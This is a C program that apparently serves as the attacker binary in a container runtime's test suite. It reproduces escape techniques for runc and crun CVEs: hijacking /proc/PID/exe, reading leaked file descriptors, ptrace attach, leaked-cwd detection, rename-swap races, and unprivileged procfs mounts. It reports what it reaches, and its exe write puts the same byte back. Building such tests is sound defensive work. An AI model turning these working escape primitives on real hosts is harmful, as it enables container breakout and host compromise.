/* The attacker: one static program (built with musl-gcc by conftest.py) that plays the hostile
 * container process of the escapes that hit runc and crun, and reports what it reached, one line
 * per observation, on stdout. The tests read those lines; the program never decides pass or fail.
 *
 *   attack probe PID...          try to reach each process: /proc/PID/{exe,environ,mem,fd}, ptrace
 *   attack hunt STOPFILE COMM    until STOPFILE exists, follow every new process until its name
 *                                is COMM ("*": at once), stop it (SIGSTOP), probe it, let it go on;
 *                                then try to write every exe it got hold of (CVE-2019-5736)
 *   attack where                 where the cwd is (inside the root or not) and which fds are open
 *                                (CVE-2024-21626)
 *   attack swap A B              exchange two paths with renameat2(RENAME_EXCHANGE) until killed
 *                                (the racing side of CVE-2021-30465 / CVE-2024-45310)
 *   attack meta PATH...          change each path's metadata: chmod 0600, chown 65534:65534, utimes
 *                                to the epoch, setxattr security.pyrunc-test (through a masked path
 *                                these reach whatever is bound there: the host's /dev/null)
 *   attack newfs                 without any capability, make a user, mount, pid and network
 *                                namespace and mount a fresh proc on /proc and sysfs on /sys there:
 *                                a new procfs has no masks (the kernel refuses it unless a procfs,
 *                                or sysfs, is already fully visible in the mount namespace)
 *
 * ATTACK_WRITE_WAIT=SECONDS: how long to wait for a busy exe to be released before writing it.
 *
 * Output lines (key=value, space separated):
 *   HUNTING comm=                                             the hunt is watching
 *   HUNTED caught=                                            how many processes it stopped and probed
 *   EXE pid= comm= link= dev= ino= kind=memfd|file seals=    an exe we opened
 *   WRITE pid= link= result=ok|<errno name>                  trying to write it (same byte back)
 *   DENIED pid= what=exe|environ|mem|fd|ptrace errno=        a refusal
 *   REACHED pid= what=environ|mem|ptrace                      a success
 *   FD pid= n= link=                                          another process's fd we could read
 *   CWD path= where=inside|outside                            `where`
 *   FDS list=0,1,2                                            `where`
 *   META path= op=chmod|chown|utimes|setxattr result=ok|<errno name>   `meta`
 *   NEWFS fs=proc|sysfs result=ok|<errno name>              `newfs`
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif

#define MAX_PIDS 4096
#define MAX_EXES 64
#define HUNT_LIMIT 600 /* seconds: a hunt left behind ends by itself */

struct held_exe {
    int fd;
    pid_t pid;
    char link[PATH_MAX];
};

static struct held_exe exes[MAX_EXES];
static int nexes;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
    char line[PATH_MAX * 2 + 256];
    va_list ap;
    int n;
    va_start(ap, fmt);
    n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if ((size_t)n > sizeof(line) - 2)
        n = sizeof(line) - 2;
    line[n++] = '\n';
    (void)!write(1, line, (size_t)n);
}

static const char *errname(int err)
{
    switch (err) {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case ETXTBSY: return "ETXTBSY";
    case ENOTDIR: return "ENOTDIR";
    case ELOOP: return "ELOOP";
    case EINVAL: return "EINVAL";
    case EROFS: return "EROFS";
    case EBADF: return "EBADF";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    default: {
        static char buf[32];
        snprintf(buf, sizeof(buf), "E%d", err);
        return buf;
    }
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Spaces would break the key=value lines. */
static void sanitize(char *s)
{
    for (; *s; s++)
        if (*s == ' ' || *s == '\n' || *s == '\t')
            *s = '_';
}

static void read_comm(pid_t pid, char *out, size_t len)
{
    char path[64];
    int fd;
    ssize_t n;
    snprintf(path, sizeof(path), "/proc/%d/comm", pid);
    snprintf(out, len, "?");
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    n = read(fd, out, len - 1);
    close(fd);
    if (n <= 0)
        return;
    out[n] = '\0';
    out[strcspn(out, "\n")] = '\0';
    sanitize(out);
}

/* CVE-2019-5736: /proc/PID/exe of a runtime process gives a file the container may rewrite. */
static void probe_exe(pid_t pid, const char *comm)
{
    char path[64], link[PATH_MAX];
    struct stat st;
    ssize_t n;
    int fd, seals;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        say("DENIED pid=%d comm=%s what=exe errno=%s", pid, comm, errname(errno));
        return;
    }
    n = readlink(path, link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = '\0';
    sanitize(link);
    fstat(fd, &st);
    seals = fcntl(fd, F_GET_SEALS);
    say("EXE pid=%d comm=%s link=%s dev=%lu ino=%lu kind=%s seals=%d", pid, comm, link,
        (unsigned long)st.st_dev, (unsigned long)st.st_ino, strncmp(link, "/memfd:", 7) ? "file" : "memfd",
        seals);
    if (nexes < MAX_EXES) {
        exes[nexes].fd = fd;
        exes[nexes].pid = pid;
        snprintf(exes[nexes].link, sizeof(exes[nexes].link), "%s", link);
        nexes++;
    } else {
        close(fd);
    }
}

static void probe_open(pid_t pid, const char *comm, const char *what, int flags)
{
    char path[64];
    int fd;
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
    fd = open(path, flags | O_CLOEXEC);
    if (fd < 0) {
        say("DENIED pid=%d comm=%s what=%s errno=%s", pid, comm, what, errname(errno));
        return;
    }
    close(fd);
    say("REACHED pid=%d comm=%s what=%s", pid, comm, what);
}

/* The fds of a process that is joining the container (CVE-2016-9962). */
static void probe_fds(pid_t pid, const char *comm)
{
    char path[64], entry[PATH_MAX], link[PATH_MAX];
    struct dirent *d;
    DIR *dir;
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    dir = opendir(path);
    if (!dir) {
        say("DENIED pid=%d comm=%s what=fd errno=%s", pid, comm, errname(errno));
        return;
    }
    while ((d = readdir(dir))) {
        ssize_t n;
        if (d->d_name[0] == '.')
            continue;
        snprintf(entry, sizeof(entry), "%s/%s", path, d->d_name);
        n = readlink(entry, link, sizeof(link) - 1);
        if (n < 0) {
            say("DENIED pid=%d comm=%s what=fd errno=%s", pid, comm, errname(errno));
            break;
        }
        link[n] = '\0';
        sanitize(link);
        say("FD pid=%d comm=%s n=%s link=%s", pid, comm, d->d_name, link);
    }
    closedir(dir);
}

/* Attach from a child that exits at once: a tracer's exit detaches it, so the target never waits
 * on a tracer (PTRACE_DETACH would need it in a ptrace-stop, which a frozen task never reaches). */
static void probe_ptrace(pid_t pid, const char *comm)
{
    int status = 0;
    pid_t tracer = fork();
    if (tracer == 0)
        _exit(ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 ? errno : 0);
    if (tracer < 0 || waitpid(tracer, &status, 0) < 0 || !WIFEXITED(status)) {
        say("DENIED pid=%d comm=%s what=ptrace errno=%s", pid, comm, "fork");
        return;
    }
    if (WEXITSTATUS(status))
        say("DENIED pid=%d comm=%s what=ptrace errno=%s", pid, comm, errname(WEXITSTATUS(status)));
    else
        say("REACHED pid=%d comm=%s what=ptrace", pid, comm);
}

static void probe(pid_t pid)
{
    char comm[64];
    read_comm(pid, comm, sizeof(comm));
    probe_exe(pid, comm);
    probe_open(pid, comm, "environ", O_RDONLY);
    probe_open(pid, comm, "mem", O_RDONLY);
    probe_fds(pid, comm);
    probe_ptrace(pid, comm);
}

/* Write the first byte of every exe we hold back onto itself: proof of write access that changes
 * nothing. A busy executable refuses writers (ETXTBSY) while it runs: wait for the runtime to
 * exit, as the CVE-2019-5736 exploit does, until the deadline. */
static void try_writes(double deadline)
{
    for (int i = 0; i < nexes; i++) {
        char path[64];
        unsigned char byte;
        int fd, err;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", exes[i].fd);
        for (;;) {
            fd = open(path, O_RDWR | O_CLOEXEC);
            err = errno;
            if (fd >= 0 || err != ETXTBSY || now() > deadline)
                break;
            usleep(10000);
        }
        if (fd < 0) {
            say("WRITE pid=%d link=%s result=%s", exes[i].pid, exes[i].link, errname(err));
            continue;
        }
        if (pread(fd, &byte, 1, 0) != 1 || pwrite(fd, &byte, 1, 0) != 1)
            say("WRITE pid=%d link=%s result=%s", exes[i].pid, exes[i].link, errname(errno));
        else
            say("WRITE pid=%d link=%s result=ok", exes[i].pid, exes[i].link);
        close(fd);
    }
}

/* How long to wait for a busy executable to be released (ATTACK_WRITE_WAIT seconds). */
static double write_wait(double dflt)
{
    const char *value = getenv("ATTACK_WRITE_WAIT");
    return value ? atof(value) : dflt;
}

static int cmd_probe(int argc, char **argv)
{
    for (int i = 0; i < argc; i++)
        probe((pid_t)atoi(argv[i]));
    try_writes(now() + write_wait(5));
    return 0;
}

/* A process is its pid and its start time: pids are reused, often at once in a small namespace. */
struct proc_id {
    pid_t pid;
    unsigned long long start;
};

static int proc_known(const struct proc_id *known, int nknown, struct proc_id id)
{
    for (int i = 0; i < nknown; i++)
        if (known[i].pid == id.pid && known[i].start == id.start)
            return 1;
    return 0;
}

/* The state letter of /proc/PID/stat ('R', 'S', 'T', 'Z', ...), 0 if the process is gone; and,
 * if asked, its start time (field 22). */
static char proc_state(pid_t pid, unsigned long long *start)
{
    char path[64], buf[1024], *p;
    ssize_t n;
    int fd;
    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    p = strrchr(buf, ')');
    if (!p || p[1] != ' ')
        return 0;
    if (start) {
        /* After ") ": state is field 3, start time field 22. */
        char *field = p + 2;
        for (int i = 3; i < 22 && field; i++) {
            field = strchr(field, ' ');
            if (field)
                field++;
        }
        *start = field ? strtoull(field, NULL, 10) : 0;
    }
    return p[2];
}

/* Stop the process and wait until it is stopped (a bounded wait: a frozen task never is). */
static char stop(pid_t pid)
{
    double until = now() + 2;
    char state;
    if (kill(pid, SIGSTOP) < 0)
        return 0;
    while ((state = proc_state(pid, NULL)) && state != 'T' && state != 't' && state != 'Z' && now() < until)
        ;
    return state;
}

/* Follow a new process through its execve()s by reading its name in a loop; once the name is
 * `want`, stop it (SIGSTOP: same uid and CAP_KILL suffice, dumpable or not) and probe it while it
 * is held. */
static int follow(pid_t pid, const char *want)
{
    char comm[64];
    for (;;) {
        char state = proc_state(pid, NULL);
        if (!state || state == 'Z' || state == 'X')
            return 0;
        read_comm(pid, comm, sizeof(comm));
        if (!strcmp(want, "*") || !strcmp(comm, want)) {
            state = stop(pid);
            if (!state || state == 'Z' || state == 'X')
                return 0;
            probe(pid);
            kill(pid, SIGCONT);
            return 1;
        }
    }
}

/* Watch /proc for new processes and follow each (see follow()). The processes present at the
 * start (ourselves, the container's) are left alone. */
static int cmd_hunt(int argc, char **argv)
{
    static struct proc_id known[MAX_PIDS];
    int nknown = 0, caught = 0;
    double deadline = now() + HUNT_LIMIT;
    const char *stop_file, *want;
    struct stat st;
    if (argc < 2) {
        fprintf(stderr, "usage: attack hunt STOPFILE COMM\n");
        return 2;
    }
    stop_file = argv[0];
    want = argv[1];
    say("HUNTING comm=%s", want);
    for (int pass = 0; now() < deadline && stat(stop_file, &st) < 0; pass++) {
        DIR *dir = opendir("/proc");
        struct dirent *d;
        if (!dir)
            return 1;
        while ((d = readdir(dir))) {
            struct proc_id id = {(pid_t)atoi(d->d_name), 0};
            if (id.pid <= 0 || id.pid == getpid() || !proc_state(id.pid, &id.start))
                continue;
            if (proc_known(known, nknown, id))
                continue;
            if (nknown < MAX_PIDS)
                known[nknown++] = id;
            else
                nknown = 0; /* forget the oldest rather than stop watching */
            if (pass > 0)
                caught += follow(id.pid, want);
        }
        closedir(dir);
    }
    say("HUNTED caught=%d", caught);
    try_writes(now() + write_wait(3));
    return 0;
}

/* CVE-2024-21626: a cwd on a leaked host directory fd lies outside the container's root. Walking
 * ".." from there never reaches our "/" (the kernel stops ".." only at the process's root). */
static int cmd_where(void)
{
    char buf[PATH_MAX], list[1024] = "";
    struct stat root, here;
    struct dirent *d;
    DIR *dir;
    long n = syscall(SYS_getcwd, buf, sizeof(buf));
    int fd = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC), inside = 0;
    if (n < 0)
        snprintf(buf, sizeof(buf), "(%s)", errname(errno));
    sanitize(buf);
    if (stat("/", &root) == 0 && fd >= 0) {
        for (int i = 0; i < 4096; i++) {
            int up;
            if (fstat(fd, &here) == 0 && here.st_dev == root.st_dev && here.st_ino == root.st_ino) {
                inside = 1;
                break;
            }
            up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
            close(fd);
            fd = up;
            if (fd < 0)
                break;
        }
    }
    say("CWD path=%s where=%s", buf, inside ? "inside" : "outside");
    if (fd >= 0)
        close(fd);
    dir = opendir("/proc/self/fd");
    if (!dir) {
        say("FDS error=%s", errname(errno));
        return 0;
    }
    while ((d = readdir(dir))) {
        if (d->d_name[0] == '.' || atoi(d->d_name) == dirfd(dir))
            continue;
        snprintf(list + strlen(list), sizeof(list) - strlen(list), "%s%s", list[0] ? "," : "", d->d_name);
    }
    closedir(dir);
    say("FDS list=%s", list);
    return 0;
}

static int cmd_swap(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: attack swap A B\n");
        return 2;
    }
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
}

static int cmd_meta(int argc, char **argv)
{
    static const struct timespec epoch[2] = {{0, 0}, {0, 0}};
    for (int i = 0; i < argc; i++) {
        const char *p = argv[i];
        say("META path=%s op=chmod result=%s", p, chmod(p, 0600) < 0 ? errname(errno) : "ok");
        say("META path=%s op=chown result=%s", p, chown(p, 65534, 65534) < 0 ? errname(errno) : "ok");
        say("META path=%s op=utimes result=%s", p, utimensat(AT_FDCWD, p, epoch, 0) < 0 ? errname(errno) : "ok");
        say("META path=%s op=setxattr result=%s", p,
            setxattr(p, "security.pyrunc-test", "x", 1, 0) < 0 ? errname(errno) : "ok");
    }
    return 0;
}

static int cmd_newfs(void)
{
    static const char *const fs[][2] = {{"proc", "/proc"}, {"sysfs", "/sys"}};
    int status;
    pid_t pid;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) < 0) {
        say("NEWFS fs=userns result=%s", errname(errno));
        return 1;
    }
    pid = fork(); /* the first child is the new pid namespace's init; proc needs to be in it */
    if (pid < 0) {
        perror("fork");
        return 1;
    }
    if (pid == 0) {
        for (size_t i = 0; i < sizeof(fs) / sizeof(fs[0]); i++)
            say("NEWFS fs=%s result=%s", fs[i][0],
                mount(fs[i][0], fs[i][1], fs[i][0], 0, NULL) < 0 ? errname(errno) : "ok");
        _exit(0);
    }
    return waitpid(pid, &status, 0) == pid && WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

int main(int argc, char **argv)
{
    if (argc >= 2 && !strcmp(argv[1], "probe"))
        return cmd_probe(argc - 2, argv + 2);
    if (argc >= 2 && !strcmp(argv[1], "hunt"))
        return cmd_hunt(argc - 2, argv + 2);
    if (argc >= 2 && !strcmp(argv[1], "where"))
        return cmd_where();
    if (argc >= 2 && !strcmp(argv[1], "swap"))
        return cmd_swap(argc - 2, argv + 2);
    if (argc >= 2 && !strcmp(argv[1], "meta"))
        return cmd_meta(argc - 2, argv + 2);
    if (argc >= 2 && !strcmp(argv[1], "newfs"))
        return cmd_newfs();
    fprintf(stderr, "usage: attack probe PID... | hunt STOPFILE COMM | where | swap A B | meta PATH... | newfs\n");
    return 2;
}
